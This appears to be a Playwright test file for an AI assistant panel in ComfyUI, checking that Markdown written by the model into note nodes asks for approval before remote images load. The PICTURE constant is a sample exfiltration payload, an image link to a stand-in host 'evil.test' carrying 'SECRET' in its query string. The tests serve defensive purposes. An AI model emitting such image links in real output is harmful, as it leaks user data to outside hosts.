"""Texts of nodes that ComfyUI's page draws as Markdown: what would be fetched by that is asked about first."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Request, expect

from tests.host.canvas import set_nodes_of_2
from tests.host.comfy import ComfyPage

PICTURE = "![a cat](http://evil.test/cat.png?d=SECRET)"
LINK = "[the guide](http://good.test/guide)"
ADD_NOTE = """() => {
    const note = LiteGraph.createNode("MarkdownNote");
    note.pos = [50, 50];
    app.graph.add(note);
    app.canvas.ds.reset();
    return String(note.id);
}"""
TEXT = "() => app.graph.nodes.map((node) => node.widgets[0].value)"


@pytest.fixture
def fetched(comfy: ComfyPage) -> Iterator[list[str]]:
    """Addresses of other hosts that the page asks for, with nodes as elements of the page."""
    asked: list[str] = []

    def note(request: Request) -> None:
        if ".test" in request.url:
            asked.append(request.url)

    comfy.page.on("request", note)
    set_nodes_of_2(comfy, shown=True)
    yield asked
    set_nodes_of_2(comfy, shown=False)
    comfy.page.remove_listener("request", note)


def set_text(node: str, text: str) -> dict[str, Any]:
    return {"call": "setNodeWidgetValue", "arguments": {"node": node, "widget": "text", "value": text}}


def insert(_node: str, text: str) -> dict[str, Any]:
    saved = {"id": 1, "type": "MarkdownNote", "pos": [50, 400], "size": [300, 200], "widgets_values": [text]}
    workflow = json.dumps({"nodes": [saved], "links": [], "version": 0.4})
    return {"call": "applyWorkflow", "arguments": {"workflow": workflow, "mode": "insert"}}


def play(model, *calls: dict[str, Any]) -> None:
    made = [*calls, {"say": "Done."}]
    model.play({"about": "Writes a note.", "steps": [{"reply": [each]} for each in made]})


@pytest.mark.parametrize("write", [set_text, insert])
def test_a_remote_picture_is_written_only_after_a_yes_that_names_its_host(
    comfy, panel, model, fetched, write
):
    note = comfy.page.evaluate(ADD_NOTE)
    play(model, write(note, PICTURE))
    panel.send("make a note")
    question = comfy.page.get_by_role("alertdialog")
    expect(question).to_contain_text("Write text that fetches from evil.test?")
    expect(question).to_contain_text("http://evil.test/cat.png?d=SECRET")

    question.get_by_role("button", name="Deny").click()
    panel.wait_until_the_turn_is_over()

    assert panel.tools_by_state() == [(write(note, PICTURE)["call"], "skipped")]
    assert comfy.page.evaluate(TEXT) == [""]
    comfy.page.wait_for_timeout(500)
    assert fetched == []


def test_what_is_allowed_is_written_and_fetched(comfy, panel, model, fetched):
    note = comfy.page.evaluate(ADD_NOTE)
    play(model, set_text(note, PICTURE))
    panel.send("make a note")

    comfy.page.get_by_role("alertdialog").get_by_role("button", name="Allow", exact=True).click()
    panel.wait_until_the_turn_is_over()

    assert comfy.page.evaluate(TEXT) == [PICTURE]
    comfy.page.wait_for_selector(".comfy-markdown-content img", state="attached")
    comfy.page.wait_for_timeout(300)
    assert set(fetched) == {"http://evil.test/cat.png?d=SECRET"}


def test_a_link_is_written_without_a_question(comfy, panel, model, fetched):
    note = comfy.page.evaluate(ADD_NOTE)
    play(model, set_text(note, LINK))
    panel.ask("make a note")
    assert comfy.page.evaluate(TEXT) == [LINK]
    assert fetched == []
